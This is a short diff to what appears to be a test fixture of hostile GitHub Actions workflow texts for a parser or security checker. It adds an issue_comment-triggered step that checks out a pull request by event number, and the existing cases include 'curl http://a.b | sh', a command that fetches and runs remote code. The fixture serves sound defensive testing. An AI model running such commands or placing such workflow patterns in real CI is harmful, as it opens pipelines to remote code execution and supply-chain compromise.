@@ -63,6 +63,10 @@ const TEXTS: Readonly<Record<string, readonly Hostile[]>> = {
     ),
     ['on: [pull_request', ', push'],
     ['jobs:\n a:\n  steps:\n  - run: |\n', '     curl http://a.b | sh\n'],
+    [
+      'on: issue_comment\njobs:\n a:\n  steps:\n  - run: |\n',
+      '     gh pr checkout ${{ github.event.number }}',
+    ],
     ['jobs:\n a:\n  steps:\n', '  - run: curl http://a.b | sh\n'],
     // The same script over and over.
     (size) =>
